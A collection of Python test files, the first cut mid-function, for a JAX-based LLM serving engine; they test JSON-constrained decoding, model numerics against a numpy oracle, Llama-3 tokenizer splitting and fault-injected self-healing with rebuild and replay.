        epoch0 = eng.inner.epoch
        reqs = [sched.submit(p, GenOptions(max_new_tokens=10))
                for p in PROMPTS]
        healed = [r.result(timeout=120) for r in reqs]
        assert healed == reference, "greedy streams continue byte-identical"
        assert eng.inner.epoch == epoch0 + 1
        assert eng.inner.prefix_cache is not pc0, "cache replaced on rebuild"
        assert eng.inner.alloc.reclaimer is eng.inner.prefix_cache
        d = deltas(before, "engine_rebuilds", "replays",
                   "prefix_cache_hit_tokens")
        assert d["engine_rebuilds"] == 1
        assert d["replays"] >= 1
        # replays share the preamble: at least one rode the fresh cache
        assert d["prefix_cache_hit_tokens"] > 0
        eng.inner.alloc.check_invariants()
        eng.inner.prefix_cache.check_invariants()
    finally:
        sched.stop()
