"""Device JSON-DFA vs host PDA: differential parity + scheduler e2e."""
import json

import numpy as np
import pytest

from chronos_trn.core.json_constrain import JsonConstrainer
from chronos_trn.core.json_dfa import build_byte_dfa, build_token_dfa
from chronos_trn.tokenizer.bpe import ByteTokenizer

TOK = ByteTokenizer(512)


@pytest.fixture(scope="module")
def tables():
    return build_token_dfa(TOK)


def _dev_step(tables, s, t):
    for b in TOK.decode_token_bytes(t):
        s = int(tables["byte_next"][s, b])
    return s


def test_dfa_initial_state_masks(tables):
    init = tables["initial"]
    row = tables["mask_rows"][tables["row_of"][init]]
    assert row[ord("{")] and row[ord("[")] and row[ord('"')] and row[ord("0")]
    assert not row[ord("a")] and not row[ord("}")]
    # FREE sentinel allows everything, transitions to itself
    free_row = tables["mask_rows"][tables["row_of"][tables["free"]]]
    assert free_row.all()
    assert (tables["byte_next"][tables["free"]] == tables["free"]).all()


def test_dfa_matches_host_constrainer_on_random_walks(tables):
    """For every reachable state along device-masked walks, the device
    mask must agree with JsonConstrainer.token_allowed and completeness
    must match — the DFA is the PDA, just compiled."""
    rng = np.random.default_rng(7)
    init = tables["initial"]
    for trial in range(150):
        c = JsonConstrainer(TOK)
        s = init
        for step in range(60):
            row = tables["mask_rows"][tables["row_of"][s]]
            for t in rng.choice(512, size=25):
                assert bool(row[t]) == c.token_allowed(int(t)), (trial, step, t)
            allowed = np.where(row)[0]
            assert len(allowed) > 0
            t = int(rng.choice(allowed))
            if t in TOK.stop_ids:
                assert c.v.complete
                break
            assert c.advance(t)
            s = _dev_step(tables, s, t)
            assert bool(tables["complete"][s]) == c.complete
            if c.complete:
                break


def test_dfa_depth_bound_masks_deeper_nesting():
    """At the stack bound generation cannot nest deeper: after
    '{"a":{"b":{' (an object at the bound) a key string would push past
    max_stack, so '\"' is masked — only '}' can continue."""
    tables = build_token_dfa(TOK, max_stack=2)
    s = tables["initial"]
    prefix = b'{"a":{"b":{'
    for b in prefix:
        s = int(tables["byte_next"][s, b])
        assert s != tables["byte_next"].shape[0] - 1, "prefix died early"
    row = tables["mask_rows"][tables["row_of"][s]]
    assert not row[ord('"')]
    assert row[ord("}")]


def test_byte_dfa_is_cached():
    a = build_byte_dfa(6, False)
    b = build_byte_dfa(6, False)
    assert a[0] is b[0]


def test_scheduler_device_dfa_json_e2e():
    """format_json through the FUSED path with the device DFA installed
    produces parseable JSON (tiny random model => grammar does all the
    work)."""
    import jax

    from chronos_trn.config import CacheConfig, EngineConfig, ModelConfig
    from chronos_trn.core import model
    from chronos_trn.serving.engine import InferenceEngine
    from chronos_trn.serving.scheduler import GenOptions, Scheduler

    mcfg = ModelConfig.tiny()
    ccfg = CacheConfig.for_slots(2, page_size=8, max_pages_per_seq=8)
    ecfg = EngineConfig(
        max_batch_slots=2, prefill_buckets=(16, 32), decode_chunk=4,
    )
    params = model.init_params(mcfg, jax.random.PRNGKey(0))
    eng = InferenceEngine(params, mcfg, ccfg, ecfg)
    sched = Scheduler(eng, TOK, ecfg)
    assert eng.has_dfa  # built by the scheduler
    sched.start()
    try:
        for temp in (0.0, 1.0):
            req = sched.submit(
                "verdict",
                GenOptions(max_new_tokens=40, format_json=True, temperature=temp, seed=3),
            )
            text = req.result(timeout=240)
            json.loads(text)
    finally:
        sched.stop()
    eng.alloc.check_invariants()
