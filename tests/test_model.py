"""Model numerics: JAX Llama vs independent numpy oracle; prefill/decode
consistency with the paged KV cache."""
import jax
import jax.numpy as jnp
import numpy as np
import pytest

from chronos_trn.config import CacheConfig, ModelConfig
from chronos_trn.core import kvcache, model
from tests.reference_llama import np_forward

CFG = ModelConfig.tiny()
CACHE = CacheConfig(page_size=4, num_pages=64, max_pages_per_seq=16)


@pytest.fixture(scope="module")
def params():
    return model.init_params(CFG, jax.random.PRNGKey(0), dtype=jnp.float32)


def test_forward_matches_numpy_oracle(params):
    tokens = np.array([1, 5, 42, 7, 300, 8, 9, 100], dtype=np.int32)
    got = model.forward_train(params, CFG, tokens[None, :])[0]
    want = np_forward(params, CFG, tokens)
    np.testing.assert_allclose(np.asarray(got), want, rtol=2e-4, atol=2e-4)


def test_prefill_matches_train_forward(params):
    tokens = np.array([3, 17, 99, 255, 12], dtype=np.int32)
    T_bucket = 8
    padded = np.zeros(T_bucket, np.int32)
    padded[: len(tokens)] = tokens
    cache = kvcache.init_cache(CFG, CACHE, dtype=jnp.float32)
    alloc = kvcache.PageAllocator(CACHE)
    st = alloc.allocate(0, len(tokens))
    logits, cache = model.prefill(
        params, CFG, CACHE, cache,
        jnp.asarray(padded), jnp.int32(len(tokens)), jnp.asarray(st.block_table),
    )
    full = model.forward_train(params, CFG, jnp.asarray(tokens)[None, :])[0]
    np.testing.assert_allclose(
        np.asarray(logits), np.asarray(full[-1]), rtol=1e-4, atol=1e-4
    )


def test_decode_matches_train_forward(params):
    """Greedy-decode token-by-token must match slicing the full forward."""
    prompt = np.array([9, 4, 101, 33], dtype=np.int32)
    n_steps = 4
    B = 2  # second slot inactive, must not corrupt slot 0

    cache = kvcache.init_cache(CFG, CACHE, dtype=jnp.float32)
    alloc = kvcache.PageAllocator(CACHE)
    st = alloc.allocate(0, len(prompt))

    padded = np.zeros(8, np.int32)
    padded[: len(prompt)] = prompt
    logits, cache = model.prefill(
        params, CFG, CACHE, cache,
        jnp.asarray(padded), jnp.int32(len(prompt)), jnp.asarray(st.block_table),
    )

    seq = list(prompt)
    pos = len(prompt)
    step_logits = []  # logits observed at each decode position
    block_tables = np.zeros((B, CACHE.max_pages_per_seq), np.int32)
    block_tables[0] = st.block_table
    for _ in range(n_steps):
        cur = np.asarray(logits if logits.ndim == 1 else logits[0])
        step_logits.append(cur)
        nxt = int(np.argmax(cur))
        seq.append(nxt)
        alloc.extend(0, pos + 1)
        block_tables[0] = alloc.get(0).block_table
        tokens = jnp.asarray([nxt, 0], jnp.int32)
        positions = jnp.asarray([pos, 0], jnp.int32)
        active = jnp.asarray([True, False])
        logits, cache = model.decode_step(
            params, CFG, CACHE, cache, tokens, positions,
            jnp.asarray(block_tables), active,
        )
        logits = logits[0]
        pos += 1

    # oracle: full forward over the final sequence; every decode-step logit
    # vector must match the corresponding full-forward position (catches
    # mid-sequence cache corruption, e.g. block-table off-by-one at a page
    # boundary, not just the final step)
    full = model.forward_train(params, CFG, jnp.asarray(seq, jnp.int32)[None, :])[0]
    full = np.asarray(full)
    step_logits.append(np.asarray(logits))
    for i, got in enumerate(step_logits):
        np.testing.assert_allclose(
            got, full[len(prompt) - 1 + i], rtol=1e-4, atol=1e-4,
            err_msg=f"decode step {i} diverged from full forward",
        )


def test_chunked_prefill_matches_whole_prefill(params):
    """Prefill in two chunks (start_pos=0 then 4) must equal one-shot."""
    tokens = np.array([3, 17, 99, 255, 12, 8, 44, 2], dtype=np.int32)
    # one-shot
    cache1 = kvcache.init_cache(CFG, CACHE, dtype=jnp.float32)
    alloc1 = kvcache.PageAllocator(CACHE)
    st1 = alloc1.allocate(0, len(tokens))
    want, _ = model.prefill(
        params, CFG, CACHE, cache1,
        jnp.asarray(tokens), jnp.int32(len(tokens)), jnp.asarray(st1.block_table),
    )
    # two chunks of 4
    cache2 = kvcache.init_cache(CFG, CACHE, dtype=jnp.float32)
    alloc2 = kvcache.PageAllocator(CACHE)
    st2 = alloc2.allocate(0, len(tokens))
    bt = jnp.asarray(st2.block_table)
    _, cache2 = model.prefill(
        params, CFG, CACHE, cache2, jnp.asarray(tokens[:4]),
        jnp.int32(len(tokens)), bt, start_pos=jnp.int32(0),
    )
    got, _ = model.prefill(
        params, CFG, CACHE, cache2, jnp.asarray(tokens[4:]),
        jnp.int32(len(tokens)), bt, start_pos=jnp.int32(4),
    )
    np.testing.assert_allclose(np.asarray(got), np.asarray(want), rtol=1e-4, atol=1e-4)


def test_page_allocator_invariants():
    alloc = kvcache.PageAllocator(CACHE)
    a = alloc.allocate(1, 10)
    b = alloc.allocate(2, 7)
    alloc.check_invariants()
    assert set(a.block_table[:3]).isdisjoint(set(b.block_table[:2]))
    alloc.extend(1, 17)
    alloc.check_invariants()
    alloc.free(1)
    alloc.check_invariants()
    assert alloc.free_pages == CACHE.num_pages - alloc.pages_needed(7)
    with pytest.raises(kvcache.PageAllocator.OutOfPages):
        alloc.allocate(3, CACHE.page_size * (alloc.free_pages + 1))


def test_rope_scaling_path():
    from chronos_trn.config import RopeScalingConfig
    cfg = ModelConfig.tiny(rope_scaling=RopeScalingConfig())
    p = model.init_params(cfg, jax.random.PRNGKey(1), dtype=jnp.float32)
    out = model.forward_train(p, cfg, jnp.asarray([[1, 2, 3]], jnp.int32))
    assert np.isfinite(np.asarray(out)).all()


def test_forward_train_finite_with_padded_rows(params):
    """Left-padded and fully-padded rows must not NaN-pollute real rows."""
    tokens = jnp.asarray(
        [[1, 2, 3, 4], [0, 0, 5, 6], [0, 0, 0, 0]], jnp.int32
    )
    attn_mask = jnp.asarray([[1, 1, 1, 1], [0, 0, 1, 1], [0, 0, 0, 0]])
    out = np.asarray(model.forward_train(params, CFG, tokens, attn_mask))
    # all real positions finite
    assert np.isfinite(out[0]).all()
    assert np.isfinite(out[1, 2:]).all()
    # row 0 must match the unpadded forward exactly
    solo = np.asarray(model.forward_train(params, CFG, tokens[:1]))
    np.testing.assert_allclose(out[0], solo[0], rtol=1e-5, atol=1e-5)


def test_topk_grouped_matches_flat(rng):
    """sampling.topk_grouped must return EXACTLY lax.top_k's (values,
    indices) at full-vocab width (the fused path's sampler relies on
    this; benchmarks/write_probe_r5.json timed the two on-chip)."""
    import jax.numpy as jnp

    from chronos_trn.core import sampling as S

    lg = jnp.asarray(rng.standard_normal((4, 128256)).astype(np.float32))
    v1, i1 = jax.jit(lambda x: jax.lax.top_k(x, 64))(lg)
    v2, i2 = jax.jit(lambda x: S.topk_grouped(x, 64))(lg)
    np.testing.assert_array_equal(np.asarray(i1), np.asarray(i2))
    np.testing.assert_array_equal(np.asarray(v1), np.asarray(v2))
    # small-vocab fallback keeps the flat path (tiny configs)
    sm = jnp.asarray(rng.standard_normal((2, 500)).astype(np.float32))
    v3, i3 = S.topk_grouped(sm, 64)
    v4, i4 = jax.lax.top_k(sm, 64)
    np.testing.assert_array_equal(np.asarray(i3), np.asarray(i4))
