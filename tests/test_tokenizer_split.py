"""Golden-parity tests for the hand-written Llama-3 pre-tokenization scanner.

Neither ``tiktoken`` nor ``regex`` exists in this image (zero egress), so
the goldens below are vendored: each expected split was hand-derived from
the published Llama-3/cl100k pattern

    (?i:'s|'t|'re|'ve|'m|'ll|'d)
    |[^\\r\\n\\p{L}\\p{N}]?\\p{L}+
    |\\p{N}{1,3}
    | ?[^\\s\\p{L}\\p{N}]+[\\r\\n]*
    |\\s*[\\r\\n]+
    |\\s+(?!\\S)
    |\\s+

under backtracking (leftmost-first, greedy) semantics — the engine class
tiktoken actually uses.  VERDICT.md round-1 item #6; the previous stdlib
``re`` approximation dropped '_' entirely (ADVICE.md high-severity).
"""
import random

import pytest

from chronos_trn.tokenizer.bpe import BPETokenizer, _char_class, _split_text

GOLDENS = [
    # underscores route through the punctuation branch (the round-1 bug)
    ("/tmp/malware_x.bin", ["/tmp", "/malware", "_x", ".bin"]),
    ("a_b __init__  x", ["a", "_b", " __", "init", "__", " ", " x"]),
    ("__init__", ["__", "init", "__"]),
    ("risk_score", ["risk", "_score"]),
    # contractions, case-insensitive, leftmost-first
    ("I'll see you've", ["I", "'ll", " see", " you", "'ve"]),
    ("don't DON'T", ["don", "'t", " DON", "'T"]),
    ("it's 'quoted'", ["it", "'s", " '", "quoted", "'"]),
    # numbers split in groups of <=3
    ("123456789", ["123", "456", "789"]),
    ("3.14", ["3", ".", "14"]),
    (" 42", [" ", "42"]),
    ("abc123", ["abc", "123"]),
    # whitespace: trailing-newline block splits off; last space glues
    # to the following word
    ("hello world\n\n  next", ["hello", " world", "\n\n", " ", " next"]),
    ("  \n\t\n  x", ["  \n\t\n", " ", " x"]),
    ("x\r\ny", ["x", "\r\n", "y"]),
    ("a  b", ["a", " ", " b"]),
    (" leading and trailing   ", [" leading", " and", " trailing", "   "]),
    ("\tfoo", ["\tfoo"]),
    ("tab\there\r\nwin  \n newline", ["tab", "\there", "\r\n", "win", "  \n", " newline"]),
    # unicode letters
    ("héllo wörld 日本語テスト", ["héllo", " wörld", " 日本語テスト"]),
    ("¡Hola! ¿Qué tal?", ["¡Hola", "!", " ¿", "Qué", " tal", "?"]),
    # punctuation runs absorb trailing newlines (branch 4's [\r\n]*)
    ("end.\nnew", ["end", ".\n", "new"]),
    # JSON-shaped text (the verdict wire format)
    (
        '{"risk_score": 8, "verdict": "MALICIOUS"}',
        ['{"', "risk", "_score", '":', " ", "8", ",", ' "', "verdict",
         '":', ' "', "MALICIOUS", '"}'],
    ),
]


@pytest.mark.parametrize("text,expected", GOLDENS, ids=[repr(g[0])[:30] for g in GOLDENS])
def test_split_goldens(text, expected):
    assert _split_text(text) == expected


def test_split_lossless_fuzz():
    """Every byte of input must appear in the output, in order."""
    rng = random.Random(0)
    alphabet = (
        "abc ABC_123 \t\n\r.,'\"{}/\\-—日本語éñ¡¿   "
    )
    for _ in range(500):
        s = "".join(rng.choice(alphabet) for _ in range(rng.randrange(0, 40)))
        parts = _split_text(s)
        assert "".join(parts) == s
        assert all(parts)  # no empty pieces


def test_underscore_encode_roundtrip():
    """ADVICE.md high: '_' must survive encode->decode (it previously
    vanished, corrupting file paths in prompts)."""
    ranks = {bytes([i]): i for i in range(256)}
    tok = BPETokenizer(ranks, {"<|begin_of_text|>": 256, "<|end_of_text|>": 257})
    for text in ["/tmp/malware_x.bin", "__init__", "snake_case_name", "_ _ _"]:
        assert tok.decode(tok.encode(text)) == text


def test_char_class_whitespace_is_unicode_white_space():
    assert _char_class("\x1c") == 3  # python isspace() true, White_Space false
    assert _char_class(" ") == 2
    assert _char_class("　") == 2
    assert _char_class("_") == 3
    assert _char_class("é") == 0
    assert _char_class("٣") == 1  # Arabic-Indic digit, Nd
    assert _char_class("Ⅻ") == 1  # Roman numeral, Nl (\p{N} not \d)
