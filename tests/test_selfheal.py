"""Self-healing serving core: slot containment, watchdog, rebuild+replay.

Every recovery path is driven deterministically through
testing.faults.FaultyEngine (tiny model, CPU).  The chaos acceptance
test at the bottom mirrors the PR's acceptance criteria: a 16-request
mixed batch survives a worker kill, a NaN slot, and a cache-poisoning
decode failure with every request answered and the fault plan's metric
deltas matched exactly.
"""
import dataclasses
import threading
import time

import jax
import jax.numpy as jnp
import numpy as np
import pytest
import requests

from chronos_trn.config import CacheConfig, EngineConfig, ModelConfig, ServerConfig
from chronos_trn.core import model
from chronos_trn.core.sampling import NEG_INF, topk_grouped
from chronos_trn.serving.backends import ModelBackend
from chronos_trn.serving.engine import InferenceEngine
from chronos_trn.serving.scheduler import GenOptions, Scheduler
from chronos_trn.serving.server import ChronosServer
from chronos_trn.testing.faults import (
    EngineFaultPlan,
    FaultyEngine,
    InjectedThreadDeath,
)
from chronos_trn.tokenizer.bpe import ByteTokenizer
from chronos_trn.utils.metrics import GLOBAL as METRICS

pytestmark = pytest.mark.selfheal

MCFG = ModelConfig.tiny()
CCFG = CacheConfig(page_size=8, num_pages=128, max_pages_per_seq=16)
ECFG = EngineConfig(
    max_batch_slots=4,
    prefill_buckets=(16, 32, 64),
    max_new_tokens=32,
    watchdog_interval_s=0.05,
)

_PARAMS = None


def _params():
    global _PARAMS
    if _PARAMS is None:
        _PARAMS = model.init_params(MCFG, jax.random.PRNGKey(0))
    return _PARAMS


def make_sched(spec: str = "", **ecfg_kw):
    """Fresh FaultyEngine-wrapped scheduler, started and GENUINELY
    warmed (the stall watchdog is gated on ``warmed``, so arming a tight
    heartbeat over un-compiled graphs would trip it on XLA compiles, not
    stalls — the exact false positive the gate exists to prevent).  The
    fault plan's call counters are reset after warmup so ``kind@N``
    indexes real-traffic calls."""
    ecfg = dataclasses.replace(ECFG, **ecfg_kw)
    eng = FaultyEngine(
        InferenceEngine(_params(), MCFG, CCFG, ecfg),
        EngineFaultPlan.parse(spec),
    )
    sched = Scheduler(eng, ByteTokenizer(vocab_size=MCFG.vocab_size), ecfg)
    sched.start()
    sched.warmup()  # compiles bucket-16 prefill + the decode step
    eng.decode_calls = 0
    eng.prefill_calls = 0
    return sched, eng


def deltas(before: dict, *names) -> dict:
    after = METRICS.snapshot()
    return {n: after.get(n, 0.0) - before.get(n, 0.0) for n in names}


@pytest.fixture(autouse=True)
def _quiet_injected_worker_deaths(monkeypatch):
    """Injected worker deaths unwind the chronos-sched thread BY DESIGN;
    keep their tracebacks out of the test log."""
    orig = threading.excepthook

    def hook(args):
        if getattr(args.thread, "name", "") == "chronos-sched":
            return
        orig(args)

    monkeypatch.setattr(threading, "excepthook", hook)


# ---------------------------------------------------------------------------
# topk_grouped -inf pad regression (ADVICE r5 #1 satellite)
# ---------------------------------------------------------------------------
def test_topk_grouped_inf_logits_indices_in_range():
    """Hard-masked (-inf) vocabs must never surface an out-of-vocab pad
    index: pad columns carry global indices >= V."""
    V, k = 300, 8  # V >= groups*k so the grouped path runs, V % 32 != 0
    logits = jnp.full((2, V), -jnp.inf)
    logits = logits.at[0, 7].set(2.0).at[0, 123].set(1.0).at[0, 299].set(0.5)
    # row 1 stays fully -inf (everything hard-masked)
    vals, idx = topk_grouped(logits, k)
    assert int(idx.max()) < V
    assert list(np.asarray(idx[0, :3])) == [7, 123, 299]
    assert list(np.asarray(vals[0, :3])) == [2.0, 1.0, 0.5]
    # masked entries come back floored to the finite MASK_VALUE
    assert np.all(np.isfinite(np.asarray(vals)))
    assert np.all(np.asarray(vals[1]) <= NEG_INF)


def test_topk_grouped_matches_flat_topk_on_finite_logits():
    logits = jnp.asarray(
        np.random.default_rng(0).standard_normal((3, 300)), jnp.float32
    )
    vals, idx = topk_grouped(logits, 8)
    fvals, fidx = jax.lax.top_k(logits, 8)
    np.testing.assert_array_equal(np.asarray(idx), np.asarray(fidx))
    np.testing.assert_allclose(np.asarray(vals), np.asarray(fvals))


# ---------------------------------------------------------------------------
# slot-level containment
# ---------------------------------------------------------------------------
def test_nan_logits_fails_alone_batchmates_complete():
    before = METRICS.snapshot()
    sched, eng = make_sched("nan_logits@2:slot=0")
    try:
        reqs = [
            sched.submit(f"prompt number {i}", GenOptions(max_new_tokens=8))
            for i in range(3)
        ]
        results, errors = [], []
        for r in reqs:
            try:
                results.append(r.result(timeout=120))
            except RuntimeError as e:
                errors.append((r, str(e)))
        assert len(errors) == 1, "exactly one request fails"
        failed_req, msg = errors[0]
        assert failed_req.error_kind == "slot_failure"
        assert "NonFiniteLogits" in msg
        assert len(results) == 2, "batch-mates complete"
        d = deltas(before, "slot_failures", "engine_rebuilds")
        assert d["slot_failures"] == 1
        assert d["engine_rebuilds"] == 0, "containment never rebuilds"
        time.sleep(0.1)
        assert sched.engine.active_count == 0, "failed slot's pages freed"
        sched.engine.alloc.check_invariants()
    finally:
        sched.stop()


# ---------------------------------------------------------------------------
# watchdog: worker death and stalled decode
# ---------------------------------------------------------------------------
def test_worker_death_restarts_with_zero_lost_requests():
    before = METRICS.snapshot()
    sched, eng = make_sched("die@3")
    try:
        reqs = [
            sched.submit(f"prompt number {i}", GenOptions(max_new_tokens=8))
            for i in range(3)
        ]
        texts = [r.result(timeout=120) for r in reqs]  # nobody errors
        assert len(texts) == 3
        d = deltas(before, "watchdog_worker_deaths", "engine_rebuilds",
                   "replays", "requests_quarantined")
        assert d["watchdog_worker_deaths"] == 1
        assert d["engine_rebuilds"] == 1
        assert d["replays"] == 3, "all residents replayed"
        assert d["requests_quarantined"] == 0
        assert sched._thread.is_alive() and sched.healthy
    finally:
        sched.stop()


def test_stalled_decode_watchdog_trips_within_heartbeat():
    before = METRICS.snapshot()
    sched, eng = make_sched(
        "hang@2:seconds=3", heartbeat_timeout_s=0.3, watchdog_interval_s=0.05
    )
    try:
        t0 = time.monotonic()
        req = sched.submit("stalling prompt", GenOptions(max_new_tokens=8))
        text = req.result(timeout=120)
        assert isinstance(text, str)
        d = deltas(before, "watchdog_stalls", "engine_rebuilds", "replays")
        assert d["watchdog_stalls"] == 1
        assert d["engine_rebuilds"] == 1
        assert d["replays"] == 1
        # tripped within heartbeat + a few poll intervals, NOT after the
        # full 3 s hang: recovery didn't wait out the wedged dispatch
        assert time.monotonic() - t0 < 3.0
        assert sched.healthy
    finally:
        sched.stop()


# ---------------------------------------------------------------------------
# cache poisoning: rebuild + replay, byte-identical continuation
# ---------------------------------------------------------------------------
def test_poison_rebuild_replays_byte_identical():
    prompts = [f"prompt number {i}" for i in range(3)]
    # fault-free greedy reference
    sched, _ = make_sched("")
    try:
        reference = [
            r.result(timeout=120)
            for r in [sched.submit(p, GenOptions(max_new_tokens=10))
                      for p in prompts]
        ]
    finally:
        sched.stop()

    before = METRICS.snapshot()
    sched, eng = make_sched("decode_poison@4")
    try:
        reqs = [sched.submit(p, GenOptions(max_new_tokens=10)) for p in prompts]
        healed = [r.result(timeout=120) for r in reqs]
        assert healed == reference, "greedy streams continue byte-identical"
        d = deltas(before, "engine_rebuilds", "replays", "slot_failures")
        assert d["engine_rebuilds"] == 1
        assert d["replays"] == 3
        assert d["slot_failures"] == 0
        assert all(r.replays == 1 for r in reqs), "decode poison charges all residents"
    finally:
        sched.stop()


def test_prefill_poison_attributed_to_offender_only():
    """Admit-time prefill poisoning charges ONLY the admitting request;
    residents replay without spending their budget."""
    # prefill call 1 = the resident, call 2 = the offender's poisoned
    # admission (one-shot); its re-admission after the rebuild is clean
    sched, eng = make_sched("prefill_poison@2")
    before = METRICS.snapshot()
    try:
        resident = sched.submit("resident stream", GenOptions(max_new_tokens=64))
        bad = sched.submit("the offender", GenOptions(max_new_tokens=8))
        assert resident.result(timeout=120)
        assert bad.result(timeout=120)  # requeued, then admitted cleanly
        assert bad.replays == 1, "offender charged"
        assert resident.replays == 0, "resident replayed for free"
        d = deltas(before, "engine_rebuilds", "replays",
                   "requests_quarantined")
        assert d["engine_rebuilds"] == 1
        assert d["replays"] == 1, "the resident rode the rebuild"
        assert d["requests_quarantined"] == 0
    finally:
        sched.stop()


# ---------------------------------------------------------------------------
# quarantine
# ---------------------------------------------------------------------------
def test_quarantine_after_max_replays():
    before = METRICS.snapshot()
    sched, eng = make_sched("", max_replays=2)
    try:
        tok = ByteTokenizer(vocab_size=MCFG.vocab_size)
        eng.poison_prefix = tok.encode("POISON", bos=True)
        bad = sched.submit("POISON", GenOptions(max_new_tokens=8))
        with pytest.raises(RuntimeError, match="quarantined"):
            bad.result(timeout=120)
        assert bad.error_kind == "quarantined"
        assert bad.replays == 2
        # quarantine fails the request BEFORE the final rebuild runs
        # (fail fast) — wait out the in-flight heal before counting
        for _ in range(100):
            if sched.healthy and deltas(before, "engine_rebuilds")[
                "engine_rebuilds"
            ] == 3:
                break
            time.sleep(0.02)
        d = deltas(before, "engine_rebuilds", "requests_quarantined")
        # three poisoned admissions (fresh, replay 1, replay 2) — each
        # rebuilds; the third quarantines instead of requeueing
        assert d["engine_rebuilds"] == 3
        assert d["requests_quarantined"] == 1
        # the server is still alive and serving after the poison input
        eng.poison_prefix = None
        assert sched.submit("clean", GenOptions(max_new_tokens=4)).result(
            timeout=120
        ) is not None
    finally:
        sched.stop()


# ---------------------------------------------------------------------------
# readiness surface
# ---------------------------------------------------------------------------
def test_readyz_reports_rebuilding_and_fused_state():
    sched, eng = make_sched("")
    server = ChronosServer(
        ModelBackend(sched), ServerConfig(host="127.0.0.1", port=0)
    )
    server.start()
    try:
        url = f"http://127.0.0.1:{server.port}/healthz/ready"
        r = requests.get(url, timeout=5)
        assert r.status_code == 200
        # no staged warmup pending => the engine reports fused-ready
        assert r.json()["fused_ready"] is True
        # the not-ready window is a few ms in these CPU tests — force the
        # flag to verify the surface deterministically
        sched._healthy = False
        r = requests.get(url, timeout=5)
        assert r.status_code == 503
        assert r.json()["reason"] == "rebuilding"
        sched._healthy = True
        assert requests.get(url, timeout=5).status_code == 200
        # a failed background fused compile is visible, not silent
        eng.inner._warmup_error = "XlaRuntimeError: injected"
        assert requests.get(url, timeout=5).json()[
            "fused_warmup_error"
        ] == "XlaRuntimeError: injected"
    finally:
        server.stop()
        sched.stop()


def test_set_dfa_after_warmup_retriggers_background_compile(monkeypatch):
    """ADVICE r5 #2: installing DFA tables after start_fused_warmup has
    run must background-compile the DFA variant instead of leaving the
    first constrained fused round to compile inline."""
    eng = InferenceEngine(_params(), MCFG, CCFG, ECFG)
    compiled = []
    monkeypatch.setattr(
        eng, "_compile_variant", lambda use_dfa: compiled.append(use_dfa)
    )
    R = 4
    fake_tables = {
        "byte_next": np.zeros((R, 256), np.int32),
        "mask_rows": np.zeros((R, MCFG.vocab_size), bool),
        "row_of": np.zeros(R, np.int32),
        "complete": np.zeros(R, bool),
        "tok_bytes": np.zeros((MCFG.vocab_size, 4), np.int32),
        "tok_len": np.zeros(MCFG.vocab_size, np.int32),
        "initial": 1,
    }
    # before warmup has started: no retrigger
    eng.set_dfa(fake_tables)
    assert compiled == []
    eng._warmup_thread = threading.Thread(target=lambda: None)  # warmup ran
    eng.set_dfa(fake_tables)
    for _ in range(100):
        if compiled:
            break
        time.sleep(0.02)
    assert compiled == [True]


# ---------------------------------------------------------------------------
# chaos acceptance: the PR's acceptance criteria end to end
# ---------------------------------------------------------------------------
def test_chaos_16_requests_all_answered_metrics_exact():
    """Worker kill + NaN slot + one cache-poisoning decode failure across
    a 16-request mixed batch: every request gets a verdict or a
    structured per-request error, the scheduler ends healthy, and the
    rebuild/slot-failure/quarantine counters match the fault plan."""
    before = METRICS.snapshot()
    sched, eng = make_sched("nan_logits@3:slot=1,die@6,decode_poison@9")
    try:
        reqs = [
            sched.submit(
                f"prompt number {i}",
                GenOptions(max_new_tokens=8, format_json=(i % 4 == 0)),
            )
            for i in range(16)
        ]
        answered, failed = 0, 0
        for r in reqs:
            try:
                r.result(timeout=300)  # no hangs
                answered += 1
            except RuntimeError:
                assert r.error_kind == "slot_failure", (
                    f"structured per-request error expected, got {r.error!r}"
                )
                failed += 1
        assert answered + failed == 16, "every request answered"
        assert failed == 1, "exactly the NaN slot fails"
        d = deltas(before, "engine_rebuilds", "slot_failures",
                   "requests_quarantined", "watchdog_worker_deaths")
        assert d["engine_rebuilds"] == 2, "one per worker kill + one per poison"
        assert d["slot_failures"] == 1
        assert d["requests_quarantined"] == 0
        assert d["watchdog_worker_deaths"] == 1
        assert sched.healthy and sched._thread.is_alive()
        assert eng.plan.remaining() == 0, "every scripted fault fired"
        time.sleep(0.1)
        assert sched.engine.active_count == 0
        sched.engine.alloc.check_invariants()
    finally:
        sched.stop()


# ---------------------------------------------------------------------------
# zero-downtime tier weight reload (PR 16 cascade)
# ---------------------------------------------------------------------------
def _reload_sched(layout):
    """Plain (unfaulted) scheduler on the requested KV layout — the
    reload path is exercised against the real engine, not a wrapper."""
    ccfg = (CacheConfig(page_size=8, num_pages=128, max_pages_per_seq=16)
            if layout == "paged"
            else CacheConfig.for_slots(4, page_size=8, max_pages_per_seq=16))
    ecfg = dataclasses.replace(
        ECFG, fused_decode=False, prefix_cache=True, prefix_cache_pages=64)
    eng = InferenceEngine(_params(), MCFG, ccfg, ecfg)
    sched = Scheduler(eng, ByteTokenizer(vocab_size=MCFG.vocab_size), ecfg)
    sched.start()
    sched.warmup()
    return sched, eng


@pytest.mark.parametrize("layout", ["paged", "slot"])
def test_tier_reload_midflight_byte_identical(layout, monkeypatch):
    """Scheduler.reload_params mid-generation: the swap rides the
    rebuild+replay machinery, in-flight chains are replayed (never
    dropped, never charged replay budget — a planned reload is not
    their fault), and because the new tree carries identical weights
    the greedy continuation is byte-identical to an uninterrupted run.
    Sanitized: the rebuild re-validates KV ownership on both layouts."""
    monkeypatch.setenv("CHRONOS_SANITIZE", "1")
    import jax.numpy as _jnp

    prompts = [f"tier reload stream {i}" for i in range(3)]
    opts = GenOptions(max_new_tokens=24)

    sched, _ = _reload_sched(layout)
    try:
        reference = [sched.submit(p, opts).result(timeout=120)
                     for p in prompts]
    finally:
        sched.stop()

    before = METRICS.snapshot()
    sched, eng = _reload_sched(layout)
    try:
        reqs = [sched.submit(p, opts) for p in prompts]
        # first delta = every stream is admitted and decoding: the swap
        # lands mid-flight, not before admission or after completion
        for r in reqs:
            assert r.deltas.get(timeout=60) is not None
        new_params = jax.tree.map(_jnp.asarray, _params())
        assert new_params is not eng.params
        sched.reload_params(new_params, reason="tier_reload")
        assert eng.params is new_params, "the new tree is installed"
        healed = [r.result(timeout=120) for r in reqs]
        assert healed == reference, "greedy continuation is byte-identical"
        d = deltas(before, "engine_rebuilds", "replays", "slot_failures",
                   "requests_quarantined")
        assert d["engine_rebuilds"] == 1
        assert d["replays"] == 3, "every in-flight chain rode the swap"
        assert d["slot_failures"] == 0 and d["requests_quarantined"] == 0
        assert all(r.replays == 0 for r in reqs), \
            "a planned reload charges no one's replay budget"
        assert sched.healthy
        # the swapped engine keeps serving: a fresh request completes
        assert sched.submit(prompts[0], opts).result(timeout=120) \
            == reference[0]
    finally:
